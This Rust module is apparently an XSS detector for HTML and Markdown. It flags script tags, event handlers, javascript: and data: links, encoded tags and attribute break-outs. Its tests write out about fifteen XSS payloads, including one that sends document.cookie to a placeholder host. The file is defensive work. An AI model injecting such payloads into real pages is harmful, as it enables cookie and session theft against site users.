//! Scripts in HTML and Markdown.

mod tag;

use std::cell::OnceCell;

use crate::hits::{Hits, Part};
use crate::words::{Words, any, find};
use tag::{Attribute, Tag};

/// Bytes of a script element's text that are looked at.
const SCRIPT_BYTES_MAX: usize = 1024;

/// Bytes that tags of one text may cost, in all: four times what a text of 1 MB needs.
pub const WORK_MAX: usize = 4 << 20;

/// Judges the tags that begin in a part. `work` counts the bytes that were read; false: the limit was reached.
pub fn judge(part: &Part<'_>, work: &mut usize, hits: &mut Hits) -> bool {
    let (text, range) = (part.text, part.range.clone());
    let first_opened = OnceCell::new();
    let mut at = range.start;
    while let Some(found) =
        text[at..range.end].iter().position(|byte| matches!(byte, b'<' | b'(' | b'%' | b'\\'))
    {
        at += found;
        if *work > WORK_MAX {
            return false;
        }
        let next = match text[at] {
            b'<' => tag::tag(text, at).map(|tag| {
                *work += tag.range.len();
                of_tag(part, &tag, &first_opened, work, hits);
                // A tag in the value of an attribute is looked at too: it may be what breaks out.
                at + 1 + tag.name.len()
            }),
            b'(' => {
                markdown(part, at, hits);
                None
            }
            _ => encoded(text, at).inspect(|&end| hits.add("script.encoded", at..end)),
        };
        at = next.unwrap_or(at + 1).min(range.end);
    }
    true
}

fn is(name: &[u8], lower: &[u8]) -> bool {
    name.eq_ignore_ascii_case(lower)
}

fn of_tag(part: &Part<'_>, tag: &Tag<'_>, first_opened: &OnceCell<usize>, work: &mut usize, hits: &mut Hits) {
    if tag.is_end {
        return;
    }
    let breakout = breaks_out(part, tag.range.start, first_opened);
    let start = breakout.unwrap_or(tag.range.start);
    if is(tag.name, b"script") {
        *work += SCRIPT_BYTES_MAX.min(part.text.len() - tag.range.end);
        let (inside, end) = script_text(part.text, tag.range.end);
        let rule = match (payload(part.words, inside), breakout.is_some()) {
            (_, true) => "script.breakout",
            (Some(rule), false) => rule,
            (None, false) => "script.tag",
        };
        hits.add(rule, start..end);
        return;
    }
    if is(tag.name, b"meta")
        && tag.attributes.iter().any(|a| is(a.name, b"http-equiv") && is(a.value.trim_ascii(), b"refresh"))
    {
        let content = tag
            .attributes
            .iter()
            .find(|a| is(a.name, b"content"))
            .map(|a| tag::plain_link(a.value))
            .unwrap_or_default();
        if let Some(url) = find(&content, b"url=", 0).map(|at| &content[at + 4..]) {
            let link = url.trim_ascii_start();
            let link = link.strip_prefix(b"'").unwrap_or(link);
            let runs = link.starts_with(b"javascript:") || link.starts_with(b"data:");
            hits.add(if runs { "script.refresh-script" } else { "script.refresh" }, tag.range.clone());
        }
    }
    for attribute in &tag.attributes {
        if let Some(rule) = of_attribute(part, tag, attribute) {
            let rule = if breakout.is_some() && rule == "script.handler" { "script.breakout" } else { rule };
            hits.add(rule, start..tag.range.end);
            return;
        }
    }
}

fn of_attribute(part: &Part<'_>, tag: &Tag<'_>, attribute: &Attribute<'_>) -> Option<&'static str> {
    let (name, value) = (attribute.name, attribute.value);
    if name.len() > 4 && is(&name[..2], b"on") && name.iter().all(u8::is_ascii_alphabetic) {
        if value.is_empty() {
            return None;
        }
        // A page's own buttons call alert too; what runs by itself, without a click, is the attack.
        let by_itself = part.words.has("load-handler", name);
        let plain = tag::plain_link(value);
        let certain = part.words.any_name("payload-certain", &plain);
        // `onload` of a page is where its own scripts begin.
        let is_attack = by_itself && certain && (!is(tag.name, b"body") || is_bare_dialog(&plain))
            || part.words.any_name("payload-certain", &plain)
                && find(&plain, b"document.cookie", 0).is_some();
        return Some(if is_attack { "script.handler-payload" } else { "script.handler" });
    }
    let is_link = [
        b"href".as_slice(),
        b"src",
        b"action",
        b"formaction",
        b"xlink:href",
        b"data",
        b"poster",
        b"background",
        b"to",
        b"values",
        b"from",
    ]
    .iter()
    .any(|link| is(name, link));
    if is_link {
        return of_link(part.words, &tag::plain_link(value));
    }
    if is(name, b"srcdoc") {
        let plain = tag::plain_link(value);
        return (find(&plain, b"<script", 0).is_some()
            || find(&plain, b"onerror=", 0).is_some()
            || find(&plain, b"onload=", 0).is_some())
        .then_some("script.srcdoc");
    }
    if is(name, b"style") {
        let plain = tag::plain_link(value);
        return (find(&plain, b"expression(", 0).is_some()
            || find(&plain, b"url(javascript:", 0).is_some()
            || find(&plain, b"-moz-binding", 0).is_some())
        .then_some("script.url");
    }
    None
}

fn of_link(words: &Words, plain: &[u8]) -> Option<&'static str> {
    if plain.starts_with(b"javascript:") || plain.starts_with(b"vbscript:") {
        let script = &plain[10..];
        return Some(if words.any_name("payload-certain", script) || find(script, b"%28", 0).is_some() {
            "script.url"
        } else {
            "script.url-plain"
        });
    }
    (plain.starts_with(b"data:text/html")
        || plain.starts_with(b"data:image/svg+xml") && find(plain, b"<script", 0).is_some())
    .then_some("script.data-url")
}

/// `](javascript:...)`
fn markdown(part: &Part<'_>, at: usize, hits: &mut Hits) {
    if at == 0 || part.text[at - 1] != b']' {
        return;
    }
    let rest = &part.text[at + 1..part.range.end.min(at + 512)];
    let plain = tag::plain_link(rest.strip_prefix(b"<").unwrap_or(rest));
    if let Some(rule) = of_link(part.words, &plain) {
        let end = link_length(rest);
        let start = part.text[part.range.start..at]
            .iter()
            .rev()
            .take(200)
            .position(|&byte| byte == b'[')
            .map_or(at, |back| at - 1 - back);
        hits.add(rule, start..at + 1 + end);
    }
}

/// Length of a link's target with its closing bracket; brackets within it pair up.
fn link_length(rest: &[u8]) -> usize {
    let mut depth = 0_usize;
    for (at, &byte) in rest.iter().enumerate() {
        match byte {
            b'(' => depth += 1,
            b')' if depth == 0 => return at + 1,
            b')' => depth -= 1,
            b' ' => return at,
            _ => (),
        }
    }
    // The look may have been cut within a character.
    rest.iter().rposition(u8::is_ascii).map_or(0, |at| at + 1)
}

/// The text of a script element, as far as it is looked at, and where the element ends.
fn script_text(text: &[u8], from: usize) -> (&[u8], usize) {
    let end = text.len().min(from + SCRIPT_BYTES_MAX);
    let inside = &text[from..end];
    match find(inside, b"</script", 0) {
        Some(length) => (&inside[..length], text.len().min(from + length + 9)),
        None => (inside, from),
    }
}

/// The rule for a script that is what attacks run: cookies that are sent away, or one short call.
fn payload(words: &Words, inside: &[u8]) -> Option<&'static str> {
    let trimmed = inside.trim_ascii();
    let has = |part: &[u8]| find(trimmed, part, 0).is_some();
    if trimmed.len() < 400
        && has(b"document.cookie")
        && [b"location".as_slice(), b"fetch", b".src", b"alert", b"xmlhttp", b"write"]
            .iter()
            .any(|part| has(part))
    {
        return Some("script.payload");
    }
    let is_short = trimmed.len() < 120
        && !trimmed.contains(&b'{')
        && trimmed.iter().filter(|&&byte| byte == b'\n').count() < 2;
    if !is_short || !words.any_name("payload-certain", trimmed) {
        return None;
    }
    // A first lesson greets; a test for injection shows a number, an address or its own name.
    let is_test = is_bare_dialog(trimmed)
        || [b"xss".as_slice(), b"hack", b"pwn", b"inject", b"document", b"eval(", b"atob", b"fromcharcode"]
            .iter()
            .any(|part| has(part));
    Some(if is_test { "script.payload" } else { "script.dialog" })
}

/// `alert(1)`, alert`1`, `prompt()`: a dialog that says nothing.
fn is_bare_dialog(script: &[u8]) -> bool {
    [b"alert".as_slice(), b"prompt", b"confirm"].iter().any(|name| {
        let Some(at) = find(script, name, 0) else { return false };
        let behind = script[at + name.len()..].trim_ascii_start();
        let Some((b'(' | b'`', argument)) = behind.split_first() else { return false };
        let argument = argument.iter().find(|byte| !matches!(byte, b'\'' | b'"' | b' '));
        argument.is_none_or(|byte| byte.is_ascii_digit() || matches!(byte, b')' | b'`' | b'/'))
    })
}

/// Where a break-out begins: a quote and `>`, or the end of an element that holds text only, right before the tag.
fn breaks_out(part: &Part<'_>, at: usize, first_opened: &OnceCell<usize>) -> Option<usize> {
    let before = &part.text[part.range.start.min(at)..at];
    if before.ends_with(b"\">") || before.ends_with(b"'>") {
        // In a document the quote ends an attribute of a tag that was opened.
        let opened =
            before.iter().rev().take(tag::TAG_BYTES_MAX).skip(2).find(|byte| matches!(byte, b'<' | b'>'));
        return (opened != Some(&b'<')).then(|| at - 2);
    }
    for element in [b"</title>".as_slice(), b"</textarea>", b"</style>", b"</noscript>", b"-->"] {
        if before.len() >= element.len() && is(&before[before.len() - element.len()..], element) {
            let rest = &before[..before.len() - element.len()];
            // An element that was opened in the same part is ended by its own document.
            let opened = *first_opened.get_or_init(|| first_open(part.bytes())) <= rest.len();
            return (!opened && !rest.is_empty()).then(|| at - element.len()).filter(|_| part.is_argument);
        }
    }
    None
}

/// Where the first opening of an element that holds text only ends, searched for once in a part.
fn first_open(bytes: &[u8]) -> usize {
    let opens = [b"<title".as_slice(), b"<textarea", b"<style", b"<noscript", b"<!--"];
    opens.iter().filter_map(|open| Some(find(bytes, open, 0)? + open.len())).min().unwrap_or(usize::MAX)
}

/// The end of a script tag in an encoding at `at`.
fn encoded(text: &[u8], at: usize) -> Option<usize> {
    let rest = &text[at..text.len().min(at + 64)];
    for open in
        [b"%3cscript".as_slice(), b"%253cscript", b"%3csvg", b"%3cimg", b"\\x3cscript", b"\\u003cscript"]
    {
        if rest.get(..open.len()).is_some_and(|head| head.eq_ignore_ascii_case(open)) {
            let tail = &rest[open.len()..];
            let closes = || any(tail, &[b"%3e", b"%253e", b"\\x3e", b"\\u003e", b"onerror", b"onload"]);
            let runs = any(tail, &[b"alert", b"prompt", b"confirm", b"cookie", b"eval"]);
            return (runs && closes()).then(|| at + open.len());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        let words =
            Words::new(include_str!("../../data/words.txt"), std::collections::BTreeMap::new()).unwrap();
        let part = Part { text: text.as_bytes(), range: 0..text.len(), is_argument: false, words: &words };
        let mut hits = Hits::default();
        assert!(judge(&part, &mut 0, &mut hits));
        for hit in &hits.0 {
            assert!(text.get(hit.range.clone()).is_some(), "{text}: {hit:?}");
        }
        hits.0.iter().map(|hit| hit.rule).collect()
    }

    #[test]
    fn attacks_by_their_shape() {
        for (text, rule) in [
            ("<script>alert(1)</script>", "script.payload"),
            ("<ScRiPt >document.location='//e/?c='+document.cookie</sCrIpT>", "script.payload"),
            ("\"><script>x()</script>", "script.breakout"),
            ("<script>alert('XSS')</script>", "script.payload"),
            ("<script>alert('Hello!');</script>", "script.dialog"),
            ("<body onload=alert(1)>", "script.handler-payload"),
            ("<img src=x onerror=alert(1)>", "script.handler-payload"),
            ("<svg/onload=alert`1`>", "script.handler-payload"),
            ("<details open ontoggle=\"confirm(1)\">", "script.handler-payload"),
            ("<a href=\"java&#x0A;script:alert(1)\">x</a>", "script.url"),
            ("[x](javascript:alert(1))", "script.url"),
            ("<iframe srcdoc=\"&lt;script&gt;x\"></iframe>", "script.srcdoc"),
            ("<iframe src=\"data:text/html;base64,PHNj\">", "script.data-url"),
            ("<meta http-equiv=refresh content=\"0;url=javascript:x\">", "script.refresh-script"),
            ("?q=%3Cscript%3Ealert(1)%3C/script%3E", "script.encoded"),
        ] {
            assert!(rules(text).contains(&rule), "{text}: {:?}", rules(text));
        }
    }

    #[test]
    fn ordinary_pages() {
        for text in [
            "<script src=\"a.js\"></script><button onclick=\"alert('saved')\">x</button>",
            "<a href=\"javascript:void(0)\">x</a> <img src=\"a\" onerror=\"this.src='b'\">",
            "<div class=\"a\"><script>function f() { alert('x'); }</script></div>",
            "a < b and c > d, List<String>",
        ] {
            let found = rules(text);
            assert!(
                found
                    .iter()
                    .all(|rule| matches!(*rule, "script.tag" | "script.handler" | "script.url-plain")),
                "{text}: {found:?}"
            );
        }
    }
}
